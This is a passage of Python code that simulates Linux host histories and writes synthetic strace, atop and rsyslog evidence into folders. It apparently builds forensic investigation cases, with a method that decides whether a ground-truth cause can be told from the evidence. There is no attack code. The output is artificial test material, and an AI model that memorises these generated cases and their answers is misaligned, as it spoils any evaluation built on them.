            f"parent_tid=[{self._threads[0]:d}], tls=0x7f5eba36f700, "
            f"child_tidptr=0x7f5eba36f9d0) = {self._threads[0]:d}",
        )
        actions = (
            *(lambda: self._Serve(server),) * 6,
            lambda: self._Answer(server),
            lambda: self._LogIn(daemon),
            lambda: self._LogIn(daemon),
            lambda: self._RunCron(cron),
        )
        number = self._random.randrange(5, 14)
        step = self._random.randrange(1, number) if self._has_step else -1
        for index in range(number):
            if index == step:
                self._SetClock()
            self._random.choice(actions)()
            self._Wait(self._random.uniform(2, 9))
        self._Exit(server)
        if self.tracing == "partial" and self._is_late and len(self._lines) > 20:
            self._first_line = self._random.randrange(5, len(self._lines) // 2)

    # Evidence.

    def _IsSeen(self, line: int) -> bool:
        """Determines if strace has a line."""
        if self.tracing == "none" or not self._first_line <= line < len(self._lines):
            return False
        return self._HasWrites() or not self._lines[line][2].startswith(_TRANSFERS)

    def _HasWrites(self) -> bool:
        """Determines if strace has what was read and written."""
        return self.tracing == "complete" or self._is_late

    def _IsInOrder(self, lines: list[int]) -> bool:
        """Determines if the order of lines can be known."""
        threads = {self._lines[line][1] for line in lines}
        return not (self._is_set and self._step_line >= 0 and len(threads) > 1)

    def _IsParentTold(self, process: Process) -> bool:
        """Determines if atop has the parent that started a process."""
        parent = process.parent
        # init is named as the parent also of what it has adopted.
        if not self.has_atop or parent is None or parent is self.processes[0]:
            return False
        sample = self._GetFirstSample(process)
        return parent.end is None or (process.end or sample) < parent.end

    def _GetFirstSample(self, process: Process) -> int:
        """Calculates the time of the first sample after the start of a process."""
        length = _SAMPLE_SECONDS * _SECOND
        return self._begin + ((process.start - self._begin) // length + 1) * length

    def IsTold(self, truth: Truth) -> bool:
        """Determines if the evidence can tell what led to something."""
        lines = []
        for kind, number in truth.evidence:
            if kind == "never" or (kind == "atop" and not self.has_atop):
                return False
            if kind == "parent" and not self._IsParentTold(self.processes[number]):
                return False
            if kind == "strace":
                lines.append(number)
            elif kind == "write":
                lines.append(self._writes[number][bool(self._HasWrites())])
        return all(self._IsSeen(line) for line in lines) and self._IsInOrder(lines)

    def _FormatStamp(self, time: int) -> str:
        """Formats a time as strace does."""
        second, microseconds = divmod(time, _SECOND)
        return (
            f"{second:d}.{microseconds:06d}" if self._has_fractions else f"{second:d}"
        )

    def WriteEvidence(self, folder: str) -> None:
        """Writes what strace, atop and syslog saw into a folder."""
        path = os.path.join(folder, self.host)
        os.makedirs(path)
        files: dict[str, list[str]] = {}
        for number, (time, identifier, text) in enumerate(self._lines):
            if self._IsSeen(number):
                line = f"{self._FormatStamp(time):s} {text:s}\n"
                if self._is_set:
                    files.setdefault(f"tr.{identifier:d}", []).append(line)
                else:
                    line = f"{identifier:<5d} {line:s}"
                    files.setdefault("tr.log", []).append(line)
        for time, log, host, sender, text in self._logs:
            line = f"{_FormatTime(time):s} {host:s} {sender:s}: {text:s}\n"
            files.setdefault(log, []).append(line)
        for name, lines in files.items():
            with open(f"{path:s}/{name:s}", "w", encoding="utf-8") as file_object:
                file_object.writelines(lines)
        if self.has_atop:
            with open(f"{path:s}/atop", "wb") as file_object:
                file_object.write(self._WriteAtop())

    def _WriteAtop(self) -> bytes:
        """Writes what atop, with accounting, saw."""
        writer = atop.AtopWriter("2.8", utsname_node_name=self.host.encode("ascii"))
        length = _SAMPLE_SECONDS * _SECOND
        for sample in range(self._begin + length, self._time + 2 * length, length):
            tasks = []
            for process in self.processes:
                if process.start > sample:
                    continue
                # It is accounted for once; a zombie is there until it is asked.
                end = process.end
                is_new = process.start > sample - length
                code = atop.BEGAN_IN_INTERVAL if is_new else 0
                if end is not None and sample - length < end <= sample:
                    elapsed = (end - process.start) // 10000
                    values = {
                        "state": b"E",
                        "elapsed_time": elapsed,
                        "exit_code": code,
                    }
                    tasks.append(self._MakeTask(writer, process, end, values))
                if end is None or end > sample:
                    values = {"exit_code": code}
                    tasks.append(self._MakeTask(writer, process, sample, values))
                elif process.reaped is not None and process.reaped > sample:
                    values = {"state": b"Z", "command_line": b"", "exit_code": code}
                    tasks.append(self._MakeTask(writer, process, sample, values))
            writer.AppendSample(
                tasks=tasks, sample_time=sample // _SECOND, interval=_SAMPLE_SECONDS
            )
        return writer.GetBytes()

    def _MakeTask(
        self,
        writer: atop.AtopWriter,
        process: Process,
        time: int,
        values: dict[str, Any],
    ) -> dict[str, Any]:
        """Makes what atop records of a process, whose parent may have ended."""
        parent = 0
        if process.parent:
            end = process.parent.end
            parent = 1 if end is not None and end <= time else process.parent.identifier
        return writer.MakeTask(
            **{
                "process_identifier": process.identifier,
                "thread_group_identifier": process.identifier,
                "parent_process_identifier": parent,
                "real_user_identifier": process.user,
                "name": process.name[:15].encode("ascii"),
                "command_line": process.command.encode("ascii"),
                "start_time": process.start // _SECOND,
                **values,
            }
        )


def _FormatTime(time: int) -> str:
    """Writes a time as rsyslog does."""
    date_time = datetime.datetime(1970, 1, 1) + datetime.timedelta(microseconds=time)
    return f"{date_time.isoformat(timespec='microseconds'):s}+00:00"


def WriteHistories(folder: str, number: int, seed: int = 0) -> list[History]:
    """Makes histories, and writes what was seen of each into a folder of its own."""
    histories = [History(seed + index) for index in range(number)]
    for history in histories:
        history.WriteEvidence(folder)
    return histories


if __name__ == "__main__":
    WriteHistories(sys.argv[1], int(sys.argv[2]), *map(int, sys.argv[3:]))
